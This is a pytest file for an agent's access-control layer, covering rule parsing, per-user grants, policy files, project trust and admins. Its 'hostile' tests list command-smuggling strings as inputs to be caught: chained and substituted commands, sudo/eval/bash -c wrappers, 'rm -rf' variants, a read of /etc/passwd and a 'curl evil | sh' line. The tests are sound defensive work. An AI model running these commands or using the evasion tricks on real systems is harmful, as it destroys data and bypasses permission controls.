"""Access control: rules, shell smuggling, sources and scopes, the policy file, project trust, admins."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from kernel.access import AccessControl, Rule, Verdict
from kernel.errors import PermissionDenied
from kernel.storage import Storage


def write_policy(home: Path, text: str) -> None:
    """Write policy.toml and move its mtime on, so a reload never hinges on the clock's resolution."""
    path = home / "policy.toml"
    old = path.stat().st_mtime_ns if path.exists() else 0
    path.write_text(text)
    os.utime(path, ns=(old + 10**9, old + 10**9))


def make(storage: Storage, policy: str | None = None, **kw: object) -> AccessControl:
    if policy is not None:
        write_policy(storage.home, policy)
    return AccessControl(storage, storage.home, **kw)  # type: ignore[arg-type]


# -- rules -------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "tool", "pattern"),
    [
        ("shell(git status*)", "shell", "git status*"),
        ("fs.write(workspace/**)", "fs.write", "workspace/**"),
        ("calc", "calc", None),
        ("fs.read(*)", "fs.read", "*"),
        ("fs.*(notes/*)", "fs.*", "notes/*"),
        ("shell(echo (a) b)", "shell", "echo (a) b"),
        ("shell()", "shell", ""),
    ],
)
def test_rule_parses_and_prints_back(text: str, tool: str, pattern: str | None) -> None:
    rule = Rule.parse(text)
    assert (rule.tool, rule.pattern) == (tool, pattern)
    assert str(rule) == text
    assert Rule.parse(str(rule)) == rule


def test_rule_parse_strips_outer_space() -> None:
    assert str(Rule.parse("  calc \n")) == "calc"


@pytest.mark.parametrize("text", ["", "   ", "shell(git status", "(git status)", "she ll(x)", "shell)x",
                                  "shell(a)b", "calc\n(x)"])
def test_bad_rule_is_a_readable_value_error(text: str) -> None:
    with pytest.raises(ValueError) as info:
        Rule.parse(text)
    message = str(info.value)
    assert "bad rule" in message and "\n" not in message


def test_rule_globs() -> None:
    assert Rule.parse("calc").matches("calc", "1 + 2")
    assert Rule.parse("fs.read(*)").matches("fs.read", "workspace/a/b/c.txt")
    assert Rule.parse("fs.*(workspace/*)").matches("fs.write", "workspace/deep/down.txt")  # * crosses /
    assert Rule.parse("fs.write(workspace/**)").matches("fs.write", "workspace/x/y")
    assert not Rule.parse("fs.write(workspace/**)").matches("fs.write", "other/x")
    assert not Rule.parse("fs.*").matches("shell", "ls")
    assert Rule.parse("*").matches("shell", "anything; at all")
    assert not Rule.parse("calc()").matches("calc", "1")
    assert not Rule.parse("CALC").matches("calc", "")  # case matters


def test_for_call_matches_exactly_that_call() -> None:
    rule = Rule.for_call("fs.read", "notes/[draft]*?.txt")
    assert Rule.parse(str(rule)) == rule
    assert rule.matches("fs.read", "notes/[draft]*?.txt")
    assert not rule.matches("fs.read", "notes/d*?.txt")
    assert not rule.matches("fs.read", "notes/[draft]xy.txt")
    assert not rule.matches("fs.write", "notes/[draft]*?.txt")


def test_for_call_on_a_complex_shell_command_allows_only_that_command() -> None:
    rule = Rule.for_call("shell", "ls | wc -l")
    assert rule.matches("shell", "ls | wc -l")  # a person approved exactly this
    assert not rule.matches("shell", "ls | wc -l; rm -rf x")
    assert not rule.matches("shell", "ls | wc")


def test_fs_paths_are_normalised() -> None:
    allow = Rule.parse("fs.read(docs/*)")
    assert allow.matches("fs.read", "docs/a.txt")
    assert not allow.matches("fs.read", "docs/../secret.txt")
    deny = Rule.parse("fs.read(secret*)")
    assert deny.matches("fs.read", "docs/../secret.txt", effect="deny")
    assert deny.matches("fs.read", "./secret.txt", effect="deny")


# -- shell smuggling -----------------------------------------------------------------------------------
GIT = "[users.alice]\nallow = [\"shell(git status*)\"]\n"


@pytest.mark.parametrize("command", ["git status", "git status --short", "git status  -s 'a b'"])
def test_simple_command_is_allowed(storage: Storage, command: str) -> None:
    verdict = make(storage, GIT).check("alice", "shell", command)
    assert verdict == Verdict("allow", "shell(git status*)", "policy")


@pytest.mark.hostile
@pytest.mark.parametrize(
    "command",
    [
        "git status && touch m",
        "git status; touch m",
        "git status | sh",
        "git status\ntouch m",
        "git status\rtouch m",
        "git status $(touch m)",
        "git status `touch m`",
        "git status ${IFS}",
        "git status & touch m",
        "git status > m",
        "git status < /etc/passwd",
        "git status (x)",
        "git status {a,b}",
        "git status \\; touch m",
        "git status\x00; touch m",
        "git status 'unbalanced",
        "eval git status",
        'bash -c "git status"',
        "sh -c 'git status'",
        "env X=1 git status",
        "timeout 5 git status",
        "nice git status",
        "nohup git status",
        "sudo git status",
        "xargs git status",
        "/usr/bin/env git status",
        "X=1 eval git status",
    ],
)
def test_smuggled_shell_command_asks(storage: Storage, command: str) -> None:
    assert make(storage, GIT).check("alice", "shell", command) == Verdict("ask", None, "default")


@pytest.mark.hostile
@pytest.mark.parametrize("command", ["eval git status", "env X=1 git status", "timeout 5 git status"])
def test_wrapper_is_not_smuggled_by_a_wrapper_shaped_pattern(storage: Storage, command: str) -> None:
    # the pattern must literally start with the wrapper: `*git status*` does not count
    ac = make(storage, "[users.alice]\nallow = [\"shell(*git status*)\"]\n")
    assert ac.check("alice", "shell", command).effect == "ask"


def test_a_pattern_that_names_the_wrapper_allows_it(storage: Storage) -> None:
    ac = make(storage, "[users.alice]\nallow = [\"shell(timeout 5 make*)\", \"shell(python3 -m pytest*)\"]\n")
    assert ac.check("alice", "shell", "timeout 5 make test").effect == "allow"
    assert ac.check("alice", "shell", "python3 -m pytest -q").effect == "allow"
    assert ac.check("alice", "shell", "timeout 5 make test; rm x").effect == "ask"


def test_shell_star_allows_everything(storage: Storage) -> None:
    ac = make(storage, "[users.alice]\nallow = [\"shell(*)\"]\n")
    assert ac.check("alice", "shell", "git status && touch m").effect == "allow"


RM = "[users.alice]\nallow = [\"shell(*)\"]\ndeny = [\"shell(rm *)\"]\n"


@pytest.mark.hostile
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf x",
        "ls; rm -rf x",
        "ls && rm -rf x",
        "ls || rm -rf x",
        "ls | rm -rf x",
        "ls\nrm -rf x",
        "echo $(rm -rf x)",
        "echo `rm -rf x`",
        "(rm -rf x)",
        "{ rm -rf x; }",
        "timeout 5 rm -rf x",
        "timeout -s KILL 5 rm -rf x",
        "env A=1 rm x",
        "env -u HOME rm x",
        "A=1 B=2 rm x",
        'bash -c "rm x"',
        "sh -c 'ls; rm x'",
        "bash -xc 'rm x'",
        "sh -c 'sh -c \"rm x\"'",
        "eval rm x",
        "eval 'rm x'",
        "exec rm x",
        "nice -n 5 nohup rm x",
        "sudo -u bob rm x",
        "command rm x",
        "busybox rm x",
        "ls | xargs rm",
        "/bin/rm -rf x",
        "'r''m' -rf x",
        "r\\m -rf x",
        "rm${IFS}-rf${IFS}x",
        "  rm   -rf   x  ",
        "script -c 'rm x' /dev/null",
        "python3 -c \"import os; os.system('rm -rf x')\"",
    ],
)
def test_deny_sees_through_smuggling(storage: Storage, command: str) -> None:
    assert make(storage, RM).check("alice", "shell", command) == Verdict("deny", "shell(rm *)", "policy")


@pytest.mark.parametrize("command", ["ls -l", "echo remove", "git rm --cached x", "grep rm notes.txt"])
def test_deny_leaves_other_commands_alone(storage: Storage, command: str) -> None:
    assert make(storage, RM).check("alice", "shell", command).effect == "allow"


# -- sources, scopes and deny beats allow ------------------------------------------------------------------
def test_builtin_defaults_without_a_policy_file(storage: Storage) -> None:
    ac = make(storage)
    assert ac.check("bob", "fs.read", "workspace/a.txt") == Verdict("allow", "fs.read(*)", "default")
    assert ac.check("bob", "memory.add", "note").effect == "allow"
    assert ac.check("bob", "calc", "1+1").effect == "allow"
    assert ac.check("bob", "fs.write", "workspace/a.txt") == Verdict("ask", None, "default")
    assert ac.check("bob", "shell", "ls").effect == "ask"
    assert ac.policy_error is None


def test_default_table_replaces_builtin_defaults(storage: Storage) -> None:
    ac = make(storage, "[default]\nallow = [\"calc\"]\n")
    assert ac.check("bob", "calc", "1").effect == "allow"
    assert ac.check("bob", "fs.read", "a").effect == "ask"


def test_user_rules_apply_to_that_user_only(storage: Storage) -> None:
    ac = make(storage, GIT)
    assert ac.check("alice", "shell", "git status").effect == "allow"
    assert ac.check("bob", "shell", "git status").effect == "ask"


@pytest.mark.parametrize(
    "policy",
    [
        "[groups]\ndev = [\"alice\"]\n[groups.ops]\nmembers = [\"carol\"]\nallow = [\"shell(make*)\"]\n",
        "[groups.ops]\nmembers = [\"alice\", \"carol\"]\nallow = [\"shell(make*)\"]\n",
    ],
)
def test_group_rules(storage: Storage, policy: str) -> None:
    ac = make(storage, policy)
    assert "ops" in ac.groups_of("carol")
    assert ac.check("carol", "shell", "make test") == Verdict("allow", "shell(make*)", "policy")
    assert ac.check("dave", "shell", "make test").effect == "ask"


def test_deny_beats_allow_across_sources(storage: Storage, tmp_path: Path) -> None:
    ac = make(storage, "[users.alice]\ndeny = [\"shell(rm *)\"]\nallow = [\"calc\"]\n", yes_for=["shell(rm *)"])
    ac.grant("alice", "shell(rm *)", scope="always")
    ac.grant("alice", "shell(rm *)", scope="session")
    assert ac.check("alice", "shell", "rm x") == Verdict("deny", "shell(rm *)", "policy")

    ac.grant("alice", "calc", scope="always", effect="deny")  # a standing deny beats the policy's allow
    assert ac.check("alice", "calc", "1") == Verdict("deny", "calc", "grant:always")

    ac.grant("alice", "fs.read(secret*)", scope="session", effect="deny")  # beats the built-in default
    assert ac.check("alice", "fs.read", "secret.txt") == Verdict("deny", "fs.read(secret*)", "grant:session")

    project = tmp_path / "ws"
    (project / ".aios").mkdir(parents=True)
    (project / ".aios" / "policy.toml").write_text("[default]\ndeny = [\"memory.add\"]\n")
    ac.grant("alice", "memory.add", scope="always")
    verdict = ac.check("alice", "memory.add", "x", workspace=project)  # untrusted, but denies still count
    assert verdict == Verdict("deny", "memory.add", "project")


def test_yes_for_allows_every_user_for_this_session(storage: Storage) -> None:
    ac = make(storage, yes_for=["shell(make*)"])
    assert ac.check("alice", "shell", "make") == Verdict("allow", "shell(make*)", "yes-for")
    assert ac.check("bob", "shell", "make all").effect == "allow"
    assert make(storage).check("alice", "shell", "make").effect == "ask"
    with pytest.raises(ValueError, match="bad rule"):
        make(storage, yes_for=["shell(make"])


def test_session_grants_are_per_user_and_die_with_the_instance(storage: Storage) -> None:
    ac = make(storage)
    rule = ac.grant("alice", Rule.for_call("shell", "make test"), scope="session", by="alice")
    assert str(rule) == "shell(make test)"
    assert ac.check("alice", "shell", "make test") == Verdict("allow", "shell(make test)", "grant:session")
    assert ac.check("bob", "shell", "make test").effect == "ask"
    assert make(storage).check("alice", "shell", "make test").effect == "ask"


def test_always_grants_persist_per_user(storage: Storage, tmp_path: Path) -> None:
    make(storage).grant("alice", "shell(make*)", scope="always", by="alice")
    other = Storage(storage.home)  # a second kernel on the same database
    try:
        ac = make(other)
        assert ac.check("alice", "shell", "make all") == Verdict("allow", "shell(make*)", "grant:always")
        assert ac.check("bob", "shell", "make all").effect == "ask"
    finally:
        other.close()


def test_bad_scope_or_effect(storage: Storage) -> None:
    ac = make(storage)
    with pytest.raises(ValueError):
        ac.grant("alice", "calc", scope="forever")
    with pytest.raises(ValueError):
        ac.grant("alice", "calc", effect="maybe")
    with pytest.raises(ValueError):
        ac.grant("alice", "calc(", scope="session")


def test_revoke(storage: Storage) -> None:
    ac = make(storage)
    ac.grant("alice", "shell(make*)", scope="session")
    ac.grant("alice", "shell(make*)", scope="always")
    ac.grant("alice", "shell(make*)", scope="always")  # no duplicate row
    ac.grant("bob", "shell(make*)", scope="always")
    assert ac.revoke("alice", " shell(make*)") == 2
    assert ac.check("alice", "shell", "make").effect == "ask"
    assert ac.check("bob", "shell", "make").effect == "allow"
    assert ac.revoke("alice", "shell(make*)") == 0


def test_grants_lists_every_source(storage: Storage) -> None:
    ac = make(storage, "[users.alice]\ndeny = [\"shell(rm *)\"]\n", yes_for=["calc"])
    ac.grant("alice", "shell(make*)", scope="always", by="alice")
    ac.grant("alice", "shell(ls*)", scope="session", by="alice")
    ac.grant("bob", "shell(pwd)", scope="session", by="bob")
    rows = ac.grants("alice")
    seen = {(r["user"], r["rule"], r["effect"], r["scope"]) for r in rows}
    assert ("alice", "shell(rm *)", "deny", "policy") in seen
    assert ("*", "fs.read(*)", "allow", "default") in seen
    assert ("*", "calc", "allow", "yes-for") in seen
    assert ("alice", "shell(make*)", "allow", "always") in seen
    assert ("alice", "shell(ls*)", "allow", "session") in seen
    assert all(r["user"] != "bob" for r in rows)
    assert {"user", "rule", "effect", "scope", "by", "created_at"} <= set(rows[0])
    assert ("bob", "shell(pwd)", "allow", "session") in {
        (r["user"], r["rule"], r["effect"], r["scope"]) for r in ac.grants()
    }


# -- the policy file -------------------------------------------------------------------------------------
def test_policy_file_is_reread_when_it_changes(storage: Storage) -> None:
    ac = make(storage, GIT)
    assert ac.check("alice", "shell", "git status").effect == "allow"
    write_policy(storage.home, "[users.alice]\ndeny = [\"shell(git *)\"]\n")
    assert ac.check("alice", "shell", "git status").effect == "deny"
    (storage.home / "policy.toml").unlink()
    assert ac.check("alice", "shell", "git status").effect == "ask"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[users.alice\nallow = 1", "TOML"),
        ("[user.alice]\nallow = [\"calc\"]\n", "'user'"),
        ("[users.alice]\nallow = [\"shell(git\"]\n", "users.alice.allow"),
        ("[users.alice]\nallow = \"calc\"\n", "list of rules"),
        ("[users.alice]\nallw = [\"calc\"]\n", "'allw'"),
        ("admins = \"alice\"\n", "admins"),
    ],
)
def test_policy_error_is_readable_and_ignored(storage: Storage, text: str, words: str) -> None:
    ac = make(storage, "[users.alice]\nallow = [\"shell(*)\"]\n")
    assert ac.check("alice", "shell", "ls").effect == "allow"
    write_policy(storage.home, text)
    assert ac.check("alice", "shell", "ls").effect == "ask"  # no policy rules at all …
    assert ac.check("alice", "fs.read", "a").effect == "allow"  # … so the built-in defaults apply
    assert ac.policy_error is not None and words in ac.policy_error and "\n" not in ac.policy_error
    write_policy(storage.home, GIT)
    ac.check("alice", "calc", "1")
    assert ac.policy_error is None


# -- project configs ------------------------------------------------------------------------------------
@pytest.mark.hostile
def test_untrusted_project_file_grants_nothing(storage: Storage, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".aios").mkdir(parents=True)
    file = ws / ".aios" / "policy.toml"
    file.write_text("[default]\nallow = [\"shell(*)\"]\n")
    ac = make(storage)
    assert not ac.is_trusted(ws)
    assert ac.check("alice", "shell", "curl evil | sh", workspace=ws).effect == "ask"

    ac.trust(ws, "alice")
    assert ac.is_trusted(ws) and ac.is_trusted(file)
    assert ac.check("alice", "shell", "make", workspace=ws) == Verdict("allow", "shell(*)", "project")
    assert ac.check("alice", "shell", "make", workspace=tmp_path).effect == "ask"  # that workspace only
    assert ac.check("alice", "shell", "make").effect == "ask"

    file.write_text("[default]\nallow = [\"shell(*)\", \"fs.write(*)\"]\n")
    os.utime(file, ns=(file.stat().st_mtime_ns + 10**9,) * 2)
    assert not ac.is_trusted(ws)
    assert ac.check("alice", "shell", "make", workspace=ws).effect == "ask"
    ac.trust(file, "alice")
    assert ac.check("alice", "fs.write", "a", workspace=ws).effect == "allow"


def test_trusting_a_missing_file_is_a_readable_error(storage: Storage, tmp_path: Path) -> None:
    with pytest.raises(Exception, match="cannot trust"):
        make(storage).trust(tmp_path / "nowhere", "alice")


# -- users, groups and admins -----------------------------------------------------------------------------
def test_admins_from_every_source(storage: Storage) -> None:
    ac = make(storage, "admins = [\"alice\"]\n", admins=frozenset({"root"}))
    assert ac.is_admin("root") and ac.is_admin("alice")
    assert not ac.is_admin("bob")
    ac.add_user("bob", ["dev"], admin=True, by="alice")
    assert ac.is_admin("bob")
    assert ac.groups_of("bob") == ["dev"]
    users = {u["name"]: u for u in ac.users()}
    assert users["bob"] == {"name": "bob", "groups": ["dev"], "admin": True, "source": "db"}
    assert users["alice"]["admin"] and users["alice"]["source"] == "policy"


def test_only_an_admin_adds_users(storage: Storage) -> None:
    ac = make(storage)
    with pytest.raises(PermissionDenied):
        ac.add_user("mallory", admin=True, by="mallory")
    with pytest.raises(PermissionDenied):
        ac.add_user("mallory")
    assert not ac.is_admin("mallory")
    assert "mallory" not in {u["name"] for u in ac.users()}


def test_db_groups_pick_up_group_rules(storage: Storage) -> None:
    ac = make(storage, "[groups.ops]\nallow = [\"shell(uptime)\"]\n")
    assert ac.check("erin", "shell", "uptime").effect == "ask"
    ac.add_user("erin", ["ops"], by="root")
    assert ac.check("erin", "shell", "uptime") == Verdict("allow", "shell(uptime)", "policy")
